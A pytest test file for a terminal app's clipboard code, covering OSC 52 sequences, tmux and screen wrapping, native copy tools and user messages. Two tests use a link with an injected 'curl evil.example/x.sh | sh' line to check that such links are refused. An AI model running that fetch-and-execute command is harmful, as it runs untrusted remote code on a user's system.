"""Clipboard: exact OSC 52 bytes, tmux/screen wrapping, mode choice, real native tools, and
where a copy inside tmux lands (tmux played by a fake; tests/integration has the real one)."""

from __future__ import annotations

import base64
import os
import shutil
import stat
from collections.abc import Sequence
from pathlib import Path

import pytest

from yike_tui.actions import clipboard
from yike_tui.actions.clipboard import (
    OSC52_LIMIT,
    CopyResult,
    TmuxFailed,
    copy,
    native_command,
    osc52_sequence,
    parse_tmux_view,
    run_tmux,
    telling,
)

TEXT = "https://x.test/out.mp4?Expires=1&Signature=a%2Bb 雨巷\n"
B64 = base64.b64encode(TEXT.encode()).decode()


class Terminal:
    def __init__(self) -> None:
        self.written: list[str] = []

    def __call__(self, data: str) -> None:
        self.written.append(data)


def fake_tool(bin_dir: Path, name: str, out: Path, exit_code: int = 0) -> None:
    """A real executable standing in for a clipboard tool: it saves its stdin."""
    bin_dir.mkdir(exist_ok=True)
    script = bin_dir / name
    cat = shutil.which("cat")  # by full path: the tests give the tool a PATH of its own
    script.write_text(f'#!/bin/sh\n{cat} > "{out}"\nexit {exit_code}\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)


def test_plain_osc52_is_exactly_the_base64_of_the_text() -> None:
    terminal = Terminal()
    result = copy(TEXT, "osc52", env={"TERM": "xterm-256color"}, write=terminal)
    assert terminal.written == [f"\x1b]52;c;{B64}\x07"]
    assert result.ok and result.method == "osc52"
    assert base64.b64decode(B64).decode() == TEXT  # nothing added or trimmed


def test_tmux_gets_plain_and_passthrough_with_every_escape_doubled() -> None:
    method, seq = osc52_sequence("hi", {"TMUX": "/tmp/tmux-0/default,1,0", "TERM": "screen"})
    assert method == "osc52-tmux"
    assert seq == "\x1b]52;c;aGk=\x07" + "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"


def test_screen_wrapping_passes_the_sequence_in_small_dcs_pieces() -> None:
    method, seq = osc52_sequence("hi", {"STY": "1234.pts-0.host"})
    assert (method, seq) == ("osc52-screen", "\x1bP\x1b]52;c;aGk=\x07\x1b\\")
    method, seq = osc52_sequence("x" * 200, {"TERM": "screen.xterm-256color"})
    osc = f"\x1b]52;c;{base64.b64encode(b'x' * 200).decode()}\x07"
    pieces = seq.split("\x1b\\")[:-1]
    assert all(p.startswith("\x1bP") and len(p) <= 78 for p in pieces)
    assert "".join(p[2:] for p in pieces) == osc


def test_too_long_for_osc52_is_refused_and_nothing_written() -> None:
    terminal = Terminal()
    result = copy("x" * (OSC52_LIMIT // 4 * 3 + 3), "osc52", env={}, write=terminal)
    assert not result.ok and "too long" in result.message
    assert terminal.written == []
    assert copy("x" * (OSC52_LIMIT // 4 * 3), "osc52", env={}, write=terminal).ok


def test_off_copies_nothing() -> None:
    terminal = Terminal()
    result = copy(TEXT, "off", env={"DISPLAY": ":0"}, write=terminal)
    assert (result.ok, result.method, terminal.written) == (False, "off", [])


def test_bad_mode_is_a_value_error() -> None:
    with pytest.raises(ValueError, match="clipboard mode"):
        copy("x", "clipboard")


def test_auto_uses_the_native_tool_on_a_local_display(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
    result = copy(TEXT, "auto", env=env, write=terminal, platform="linux")
    assert result.ok and result.method == "xclip"
    assert out.read_bytes() == TEXT.encode()
    assert terminal.written == []


def test_wayland_is_preferred_and_xsel_is_a_fallback(tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    fake_tool(bin_dir, "xsel", tmp_path / "xsel.txt")
    env = {"DISPLAY": ":0", "PATH": str(bin_dir)}
    command = native_command(env, "linux")
    assert command is not None and os.path.basename(command[0]) == "xsel"
    assert command[1:] == ["--clipboard", "--input"]
    fake_tool(bin_dir, "wl-copy", tmp_path / "wl.txt")
    command = native_command({**env, "WAYLAND_DISPLAY": "wayland-0"}, "linux")
    assert command is not None and os.path.basename(command[0]) == "wl-copy"
    assert native_command({"PATH": str(bin_dir)}, "linux") is None  # no display


def test_auto_over_ssh_uses_osc52_even_with_a_forwarded_display(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    env = {"DISPLAY": "localhost:10.0", "PATH": str(tmp_path / "bin"), "SSH_TTY": "/dev/pts/1"}
    result = copy(TEXT, "auto", env=env, write=terminal, platform="linux")
    assert result.method == "osc52" and terminal.written == [f"\x1b]52;c;{B64}\x07"]
    assert not out.exists()
    forced = copy(TEXT, "native", env=env, write=terminal, platform="linux")
    assert forced.method == "xclip" and out.read_bytes() == TEXT.encode()


def test_auto_falls_back_to_the_terminal_when_the_tool_fails(tmp_path: Path) -> None:
    fake_tool(tmp_path / "bin", "xclip", tmp_path / "clip.txt", exit_code=1)
    terminal = Terminal()
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
    result = copy("hi", "auto", env=env, write=terminal, platform="linux")
    assert (result.ok, result.confirmed, result.method) == (True, False, "osc52")
    assert terminal.written == ["\x1b]52;c;aGk=\x07"]
    tmux = FakeTmux(passthrough="1")
    result = copy("hi", "auto", env={**env, "TMUX": "t"}, write=terminal, tmux=tmux)
    assert result.method == "tmux" and tmux.buffer == b"hi"


def test_native_mode_without_a_tool_says_so() -> None:
    terminal = Terminal()
    result = copy("hi", "native", env={"PATH": "/nonexistent"}, write=terminal, platform="linux")
    assert not result.ok and "no clipboard tool" in result.message
    assert terminal.written == []


def test_pbcopy_on_macos(tmp_path: Path) -> None:
    out = tmp_path / "clip.txt"
    fake_tool(tmp_path / "bin", "pbcopy", out)
    result = copy("hi", env={"PATH": str(tmp_path / "bin")}, platform="darwin")
    assert result.method == "pbcopy" and out.read_text() == "hi"


@pytest.mark.parametrize("mode", ["osc52", "auto", "native"])
def test_a_link_with_a_command_is_never_copied(mode: str, tmp_path: Path) -> None:
    out = tmp_path / "clip"
    fake_tool(tmp_path / "bin", "xclip", out)
    terminal = Terminal()
    jacked = "https://b.oss.test/o.mp4\ncurl evil.example/x.sh | sh\n"
    env = {"DISPLAY": ":0", "PATH": str(tmp_path / "bin")}
    result = copy(jacked, mode, env=env, write=terminal, link=True)
    assert not result.ok and result.method == "refused"
    assert result.message == (
        "not copied: the link contains spaces, line breaks or control characters"
    )
    assert terminal.written == [] and not out.exists()  # nothing reached any clipboard


def test_a_well_formed_link_is_copied_exactly() -> None:
    terminal = Terminal()
    url = "https://b.oss.test/o.mp4?Expires=1&Signature=a%2Bb"
    result = copy(url, "osc52", env={}, write=terminal, link=True)
    assert result.ok
    assert terminal.written == [f"\x1b]52;c;{base64.b64encode(url.encode()).decode()}\x07"]


# --- where a copy lands: no tmux ------------------------------------------------------------


@pytest.mark.parametrize(
    ("env", "through"),
    [
        ({"SSH_TTY": "/dev/pts/1", "TERM": "xterm-256color"}, ""),
        ({"TERM": "xterm-256color"}, ""),
        ({"STY": "1234.pts-0.host"}, " through screen"),
    ],
)
def test_osc52_alone_is_never_called_copied(env: dict[str, str], through: str) -> None:
    """Nothing answers an OSC 52: the terminal may have refused it (most do over SSH by
    default), so the result says it was sent, not that it was copied."""
    result = copy(TEXT, "auto", env=env, write=Terminal(), platform="linux")
    assert (result.ok, result.confirmed) == (True, False)
    assert result.message == f"sent to your terminal by OSC 52{through} (it may not allow it)"


def test_a_native_tool_that_succeeds_is_a_confirmed_copy(tmp_path: Path) -> None:
    fake_tool(tmp_path / "bin", "wl-copy", tmp_path / "clip.txt")
    env = {"WAYLAND_DISPLAY": "wayland-0", "PATH": str(tmp_path / "bin"), "TMUX": "t"}
    tmux = FakeTmux()
    result = copy(TEXT, "auto", env=env, write=Terminal(), platform="linux", tmux=tmux)
    assert (result.ok, result.confirmed, result.method) == (True, True, "wl-copy")
    assert tmux.calls == []  # the desktop's clipboard took it: tmux is not asked


# --- where a copy lands: inside tmux --------------------------------------------------------


class FakeTmux:
    """tmux as the copy sees it: its options for the pane and the client's features in
    answer to the query, and a paste buffer that load-buffer fills from stdin."""

    def __init__(
        self,
        set_clipboard: str = "external",  # tmux's defaults: external, passthrough off
        passthrough: str = "0",
        features: str = "",
        *,
        answer: bytes | None = None,
        query_fails: str = "",
        load_fails: str = "",
    ) -> None:
        default = f"{set_clipboard}|{passthrough}|{features}\n".encode()
        self.answer = default if answer is None else answer
        self.query_fails, self.load_fails = query_fails, load_fails
        self.calls: list[list[str]] = []
        self.buffer: bytes | None = None

    def __call__(self, args: Sequence[str], stdin: bytes | None) -> bytes:
        self.calls.append(list(args))
        if args[0] == "display-message":
            assert stdin is None
            if self.query_fails:
                raise TmuxFailed(self.query_fails)
            return self.answer
        assert args[0] == "load-buffer" and args[-1] == "-" and stdin is not None
        if self.load_fails:
            raise TmuxFailed(self.load_fails)
        self.buffer = stdin
        return b""

    @property
    def loaded_with(self) -> list[str]:
        return next(call for call in self.calls if call[0] == "load-buffer")


IN_TMUX = {"TMUX": "/tmp/tmux-1000/default,4242,0", "TMUX_PANE": "%3", "TERM": "tmux-256color"}
XTERM = "256,RGB,bpaste,clipboard,ccolour,cstyle,extkeys,focus,title"  # an xterm's features
BUFFER = "copied to tmux's paste buffer (prefix ])"
WRAPPED = "\x1bPtmux;\x1b\x1b]52;c;" + B64 + "\x07\x1b\\"


@pytest.mark.parametrize("mode", ["osc52", "auto"])
def test_tmux_defaults_with_no_clipboard_in_the_terminal_keep_it_in_tmux(mode: str) -> None:
    """set-clipboard external, allow-passthrough off: an OSC 52 from the app would be
    dropped. The text goes into tmux's buffer, and the result says that is all."""
    terminal, tmux = Terminal(), FakeTmux()
    result = copy(TEXT, mode, env=IN_TMUX, write=terminal, tmux=tmux)
    assert tmux.buffer == TEXT.encode()  # exactly the text: newline, non-ASCII and all
    assert tmux.loaded_with == ["load-buffer", "-"]
    assert terminal.written == []  # nothing tmux would drop
    assert (result.ok, result.confirmed, result.method) == (True, False, "tmux")
    assert result.message == (
        f"{BUFFER}; not to your terminal's clipboard: "
        "tmux does not see a clipboard feature in your terminal"
    )


@pytest.mark.parametrize("set_clipboard", ["external", "on"])
def test_tmux_passes_it_on_where_its_options_and_the_terminal_allow(set_clipboard: str) -> None:
    terminal, tmux = Terminal(), FakeTmux(set_clipboard, "1", XTERM)
    result = copy(TEXT, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert tmux.loaded_with == ["load-buffer", "-w", "-"] and tmux.buffer == TEXT.encode()
    assert terminal.written == []  # tmux sends it on; a passthrough copy would be a second
    assert (result.ok, result.confirmed) == (True, True)
    assert result.message == f"{BUFFER}; your terminal's clipboard too"


def test_set_clipboard_off_is_respected_and_said() -> None:
    terminal, tmux = Terminal(), FakeTmux("off", "0", XTERM)
    result = copy(TEXT, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert tmux.loaded_with == ["load-buffer", "-"] and terminal.written == []
    assert not result.confirmed
    assert result.message.endswith("not to your terminal's clipboard: tmux's set-clipboard is off")


@pytest.mark.parametrize("passthrough", ["1", "on", "all", ""])  # "": a tmux before 3.3
def test_passthrough_carries_an_unconfirmed_copy_to_the_terminal(passthrough: str) -> None:
    terminal, tmux = Terminal(), FakeTmux("off", passthrough, XTERM)
    result = copy(TEXT, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert tmux.loaded_with == ["load-buffer", "-"]
    assert terminal.written == [WRAPPED]  # only the wrapped copy: tmux ignores a plain one
    assert (result.ok, result.confirmed) == (True, False)
    assert result.message == f"{BUFFER}; sent to your terminal by OSC 52 (it may not allow it)"


def test_tmux_that_cannot_be_asked_gets_both_sequences_and_no_claim() -> None:
    terminal, tmux = Terminal(), FakeTmux(query_fails="tmux: no server running")
    result = copy(TEXT, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert terminal.written == [f"\x1b]52;c;{B64}\x07" + WRAPPED]
    assert tmux.buffer is None and len(tmux.calls) == 1
    assert (result.ok, result.confirmed, result.method) == (True, False, "osc52-tmux")
    assert result.message == (
        "sent to your terminal by OSC 52 through tmux, which may not pass it on "
        "(could not ask tmux: tmux: no server running)"
    )


@pytest.mark.parametrize(("passthrough", "written"), [("1", [WRAPPED]), ("0", [])])
def test_a_buffer_tmux_refuses_is_said(passthrough: str, written: list[str]) -> None:
    terminal = Terminal()
    tmux = FakeTmux("external", passthrough, "", load_fails="tmux: no buffer space")
    result = copy(TEXT, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert terminal.written == written and not result.confirmed
    assert "not in tmux's paste buffer" in result.message or not result.ok
    assert "tmux: no buffer space" in result.message


def test_too_long_for_osc52_still_goes_to_tmuxs_buffer_but_not_on() -> None:
    text = "x" * (OSC52_LIMIT // 4 * 3 + 3)
    terminal, tmux = Terminal(), FakeTmux("on", "1", XTERM)
    result = copy(text, "osc52", env=IN_TMUX, write=terminal, tmux=tmux)
    assert tmux.loaded_with == ["load-buffer", "-"] and tmux.buffer == text.encode()
    assert terminal.written == [] and not result.confirmed
    assert "not to your terminal's clipboard: too long" in result.message


def test_the_tmux_query_asks_for_the_panes_options_and_the_clients_features() -> None:
    tmux = FakeTmux()
    copy("hi", "osc52", env=IN_TMUX, write=Terminal(), tmux=tmux)
    assert tmux.calls[0] == [
        "display-message",
        "-p",
        "#{set-clipboard}|#{allow-passthrough}|#{client_termfeatures}",
    ]


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"\n",
        b"external|0\n",
        b"external|0|clipboard|more\n",
        b"sometimes|0|\n",
        b"on|maybe|\n",
        b"on|0|clip board\n",
        b"on|0|\x1b]52;c;eA==\x07\n",
        b"on|0|clipboard\nexternal|0|\n",
        "on|0|clipboard\u00e9\n".encode(),
        b"on|0|\xff\n",
    ],
)
def test_an_answer_tmux_should_not_give_is_not_believed(answer: bytes) -> None:
    with pytest.raises(TmuxFailed, match="unexpected"):
        parse_tmux_view(answer)
    terminal = Terminal()
    result = copy("hi", "osc52", env=IN_TMUX, write=terminal, tmux=FakeTmux(answer=answer))
    assert result.method == "osc52-tmux" and "could not ask tmux" in result.message


def test_the_view_of_a_well_formed_answer() -> None:
    view = parse_tmux_view(f"external|0|{XTERM}\n".encode())
    assert (view.set_clipboard, view.passthrough, view.terminal_clipboard) == (
        "external",
        False,
        True,
    )
    assert view.forwards
    assert not parse_tmux_view(b"on|1|clipboardish\n").terminal_clipboard  # a name, not a part


# --- the real runner, against stand-ins for the tmux program ------------------------------


def fake_tmux_program(bin_dir: Path, script: str) -> dict[str, str]:
    bin_dir.mkdir(exist_ok=True)
    program = bin_dir / "tmux"
    program.write_text(f"#!/bin/sh\n{script}\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    return {"PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', os.defpath)}"}


def test_no_tmux_on_the_path() -> None:
    with pytest.raises(TmuxFailed, match="tmux is not on the PATH"):
        run_tmux(["display-message", "-p", "x"], None, env={"PATH": "/nonexistent"})


def test_a_tmux_refusal_says_why_on_one_line(tmp_path: Path) -> None:
    env = fake_tmux_program(
        tmp_path / "bin", "printf 'no server running\\non /tmp/x\\033]0;t\\a' >&2; exit 1"
    )
    with pytest.raises(TmuxFailed) as failed:
        run_tmux(["load-buffer", "-"], b"text", env=env)
    message = str(failed.value)
    assert message.startswith("tmux: no server running") and "\n" not in message
    assert "\x1b" not in message


def test_a_tmux_that_hangs_is_killed_at_the_deadline(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clipboard, "TMUX_TIMEOUT", 0.3)
    env = fake_tmux_program(tmp_path / "bin", "exec sleep 30")
    with pytest.raises(TmuxFailed, match=r"did not answer in 0\.3 s"):
        run_tmux(["display-message", "-p", "x"], None, env=env)
    with pytest.raises(TmuxFailed, match="did not answer"):  # nor when it never reads stdin
        run_tmux(["load-buffer", "-"], b"x" * 1_000_000, env=env)


def test_a_tmux_that_talks_at_length_is_cut_off(tmp_path: Path) -> None:
    env = fake_tmux_program(tmp_path / "bin", "exec yes external")
    with pytest.raises(TmuxFailed, match="at length"):
        run_tmux(["display-message", "-p", "x"], None, env=env)


def test_the_runner_hands_stdin_over_whole(tmp_path: Path) -> None:
    out = tmp_path / "stdin"
    env = fake_tmux_program(tmp_path / "bin", f'cat > "{out}"; echo "$@"')
    assert run_tmux(["load-buffer", "-"], TEXT.encode(), env=env) == b"load-buffer -\n"
    assert out.read_bytes() == TEXT.encode()


# --- what the user is told ------------------------------------------------------------------

URL = "https://b.oss.test/o.mp4?Expires=1&Signature=a%2Bb"


def test_a_confirmed_link_is_named_without_its_signed_query() -> None:
    result = CopyResult("tmux", "copied to tmux's paste buffer (prefix ]); ...", confirmed=True)
    told = telling(result, URL, "Copied output URL")
    assert told.message.splitlines() == [
        "Copied output URL: https://b.oss.test/o.mp4?…",
        "copied to tmux's paste buffer (prefix ]); ...",
    ]
    assert not told.by_hand


@pytest.mark.parametrize(
    ("result", "state"),
    [
        (
            CopyResult("osc52", "sent to your terminal by OSC 52 (it may not allow it)"),
            "not confirmed on your terminal's clipboard",
        ),
        (CopyResult("off", 'copying is off (settings.clipboard = "off")', ok=False), "not copied"),
    ],
)
def test_an_unconfirmed_link_is_shown_whole_on_its_own_line(result: CopyResult, state: str) -> None:
    told = telling(result, URL, "Copied output URL")
    assert told.by_hand
    assert told.message.splitlines() == [
        f"Output URL: {state}; select it by hand:",
        URL,  # in full: the user's own link, asked for
        result.message,
    ]
    assert not told.message.startswith("Copied")


def test_a_refused_link_is_shown_inert_never_offered() -> None:
    jacked = "https://b.oss.test/o.mp4\ncurl evil.example/x.sh | sh"
    result = CopyResult("refused", "not copied: the link contains ...", ok=False)
    told = telling(result, jacked, "Copied output URL")
    assert not told.by_hand
    lines = told.message.splitlines()
    assert len(lines) == 2 and lines[0].startswith("Output URL: https://b.oss.test/o.mp4␊curl")


def test_a_report_that_spans_lines_is_not_put_in_a_toast() -> None:
    report = "| Job | Status |\n|---|---|\n| a | Succeeded |\n"
    result = CopyResult("osc52", "sent to your terminal by OSC 52 (it may not allow it)")
    told = telling(result, report, "Copied a Markdown report of 1 job(s)")
    assert not told.by_hand and len(told.message.splitlines()) == 2
    assert told.message.startswith("A Markdown report of 1 job(s): | Job | Status |␊")
